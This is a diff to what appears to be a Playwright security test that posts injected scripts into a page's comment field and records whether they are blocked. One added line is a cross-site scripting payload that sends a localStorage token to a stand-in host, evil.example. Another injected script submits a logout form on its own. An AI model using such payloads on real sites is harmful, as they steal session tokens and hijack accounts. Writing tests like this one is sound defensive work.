@@ -69,6 +69,12 @@ try {
   found.handler = await page.evaluate(() => window.outcome);
 
   found.documentCookie = await run('window.outcome = document.cookie || "nothing";');
+  await page.fill('#comment', "<script>fetch('https://evil.example/?t=' + localStorage.getItem('token'))</" + 'script>');
+  const sent = told();
+  await page.click('#post');
+  await sent;
+  found.sentElsewhere = await page.$$eval('#loot span, #blocked', (all) => all.filter((each) => !each.hidden).map((each) => each.id).join(' '));
+  found.sentTo = await page.textContent('#blocked-at');
   const elsewhere = `http://localhost:${new URL(start).port}/`; // another origin, and somebody listens there
   found.elsewhere = await run(reaches(`fetch('${elsewhere}', { mode: 'no-cors' })`));
   found.authorize = await run(reaches("fetch('/authorize')"));
@@ -85,8 +91,8 @@ try {
   // A form that is sent leads away; one that is not leaves the page as it is, and the next comment is told.
   const led = page.waitForEvent('framenavigated').then(() => 'reached');
   await page.fill('#comment', `<script>const form = document.createElement('form'); form.action = '/end_session';
-    document.body.append(form); form.submit(); report(null, '');</` + 'script>');
-  const stayed = told().then(() => 'blocked');
+    document.body.append(form); form.submit(); report('a token', '');</` + 'script>');
+  const stayed = page.waitForResponse((response) => response.request().postData()?.includes('"token"')).then(() => 'blocked');
   await page.click('#post');
   found.form = await Promise.race([led, stayed]);
 } catch (error) {
